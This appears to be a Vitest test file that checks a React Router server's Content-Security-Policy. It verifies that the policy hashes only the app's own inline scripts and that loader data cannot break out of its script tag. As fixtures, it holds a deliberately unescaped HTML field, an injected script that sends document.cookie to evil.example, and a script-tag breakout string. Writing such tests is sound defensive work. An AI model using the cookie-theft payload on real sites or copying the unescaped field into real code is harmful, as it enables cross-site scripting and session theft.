import { hash } from "node:crypto";
import { createRequestHandler, Outlet, RouterContextProvider, ScrollRestoration, type ServerBuild } from "react-router";
import { expect, it } from "vitest";
import * as entry from "./entry.server.tsx";
import { documentContext } from "./platform/pages/page-tags.server.ts";
import { RootScripts } from "./root-scripts.tsx";

/** A field that forgot to escape what somebody typed. */
const Field = ({ typed }: { typed: string }) => <p dangerouslySetInnerHTML={{ __html: typed }} />;

function pageWith(typed: string): ServerBuild {
  const Root = () => (
    <html lang="es">
      <body>
        <Outlet />
        <ScrollRestoration />
        <RootScripts />
      </body>
    </html>
  );
  const loader = () => ({ typed });
  const page = { default: () => <Field typed={typed} />, loader };
  const asset = (id: string) => ({ id, path: "", module: `/${id}.js`, imports: [], hasLoader: id === "page" });
  return {
    entry: { module: entry },
    routes: {
      root: { id: "root", path: "", module: { default: Root } },
      page: { id: "page", parentId: "root", index: true, module: page },
    },
    assets: {
      entry: { imports: [], module: "/entry.js" },
      routes: { root: asset("root"), page: { ...asset("page"), parentId: "root", index: true } },
      url: "/manifest.js",
      version: "1",
    },
    basename: "/",
    publicPath: "/",
    assetsBuildDirectory: "",
    future: {},
    ssr: true,
    isSpaMode: false,
    prerender: [],
    routeDiscovery: { mode: "initial" },
  } as unknown as ServerBuild;
}

async function render(typed: string) {
  const context = new RouterContextProvider();
  await createRequestHandler(pageWith(typed), "production")(new Request("http://shop/"), context);
  const { bytes, policy } = context.get(documentContext)!;
  return { html: bytes.toString(), policy };
}

const nameOf = (script: string) => `'sha256-${hash("sha256", script, "base64")}'`;

it("names the program's own scripts in its policy, and none that came into the page with somebody's words", async () => {
  const injected = "fetch('//evil.example/'+document.cookie)";
  const { html, policy } = await render(`<script>${injected}</script>`);
  const run = [...html.matchAll(/<script>([^]*?)<\/script>/g)].map(([, code]) => code!);
  expect(run).toContain(injected);
  expect(policy).not.toContain(nameOf(injected));
  expect(policy).not.toContain("unsafe-inline' 's");
  const own = run.filter((code) => code !== injected);
  expect(own).toHaveLength(2);
  for (const code of own) expect(policy).toContain(nameOf(code));
});

it("has one policy for every page, whatever it shows", async () => {
  expect((await render("uno")).policy).toBe((await render("<b>dos</b>")).policy);
});

it("keeps what the loaders answered as data that cannot end its own script", async () => {
  const { html } = await render("</script><script>go()</script>");
  const data = /<script type="application\/json" id="page-data">([^]*?)<\/script>/.exec(html)![1]!;
  expect(JSON.parse(data)).toContain("</script><script>go()</script>");
});
